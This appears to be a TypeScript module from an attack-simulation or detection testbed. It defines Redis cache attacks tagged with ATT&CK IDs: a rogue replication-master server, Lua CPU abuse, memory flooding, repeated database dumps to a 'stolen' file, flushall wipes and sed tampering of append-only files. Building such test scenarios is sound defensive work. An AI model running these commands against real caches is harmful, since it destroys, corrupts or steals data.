import type { Attack } from './attack.ts';

/** A server that claims to be the origin of a cache, and what it hands out: an empty database file. */
const ROGUE = `const net = require('net');
const file = Buffer.concat([Buffer.from('REDIS0010'), Buffer.from([0xff]), Buffer.alloc(8)]);
const server = net.createServer((peer) => {
  peer.on('error', () => 0);
  peer.on('data', (data) => {
    const text = String(data).toUpperCase();
    if (text.includes('PSYNC')) { peer.write('+FULLRESYNC ' + 'a'.repeat(40) + ' 1\\r\\n$' + file.length + '\\r\\n'); peer.write(file); }
    else peer.write(text.includes('PING') ? '+PONG\\r\\n' : '+OK\\r\\n');
  });
});
await new Promise((done) => server.listen(7777, done));`;

const inCache = (
  id: string,
  technique: string,
  title: string,
  act: Attack['act'],
  more: Partial<Attack> = {},
): Attack => ({
  id,
  technique,
  title,
  entry: 'service',
  shows: ['cache'],
  act,
  ...more,
});

const forSeconds = (seconds: number, command: string) =>
  `end=$(($(date +%s) + ${seconds})); while [ $(date +%s) -lt $end ]; do ${command}; done`;

/** What an attack left in memory and on disk would make the windows after it strange. */
const emptied: Attack['after'] = async ({ redis, restart }) => {
  await redis('flushall');
  await redis('bgrewriteaof');
  await restart('cache');
};

/** What is done to the cache by its own protocol, or to its files. */
export const CACHE_ATTACKS: readonly Attack[] = [
  inCache(
    'cache-rogue-origin',
    'T1584',
    'makes the cache a copy of a rogue server, which hands it a file',
    async ({ app, redis }) => {
      const serving = app(`${ROGUE} await pause(15000); server.close();`);
      await redis('replicaof', '10.89.0.13', '7777');
      await serving;
      return await redis('replicaof', 'no', 'one');
    },
    { touches: ['app'], after: emptied },
  ),
  inCache('cache-script-abuse', 'T1496', 'computes inside the cache by a script', ({ redis }) =>
    redis('eval', 'local s = 0 for i = 1, 100000000 do s = s + i % 7 end return s', '0'),
  ),
  inCache(
    'cache-flood',
    'T1499.003',
    'fills the memory of the cache so that everything else is thrown out',
    ({ sh }) =>
      sh('redis-benchmark', forSeconds(20, 'redis-benchmark -h cache -n 400 -c 4 -r 100000 -d 40000 -t set -q')),
    { after: emptied },
  ),
  inCache(
    'cache-copy-out',
    'T1213',
    'takes the whole database by the protocol of replication, again and again',
    ({ sh }) =>
      sh('redis-benchmark', forSeconds(20, 'redis-cli -h cache --rdb /tmp/stolen.rdb >/dev/null 2>&1; sleep 1')),
  ),
  inCache(
    'cache-wipe',
    'T1485',
    'deletes everything and starts a rewrite of the log, again and again',
    async ({ sh }) =>
      sh('redis-benchmark', forSeconds(15, 'redis-cli -h cache flushall; redis-cli -h cache bgrewriteaof; sleep 2')),
    { after: emptied },
  ),
  inCache(
    'cache-log-tampering',
    'T1565.001',
    'changes the append-only file in place',
    ({ sh }) => sh('cache', 'cd /data/appendonlydir && for f in *.aof; do sed -i "s/key:/kex:/" $f; done; sleep 1'),
    { entry: 'exec', after: ({ redis }) => redis('bgrewriteaof') },
  ),
  inCache('cache-key-hunt', 'T1083', 'lists every key and the size of each, without a pause', ({ sh }) =>
    sh(
      'redis-benchmark',
      forSeconds(20, 'redis-cli -h cache --bigkeys >/dev/null; redis-cli -h cache keys "*" >/dev/null'),
    ),
  ),
];
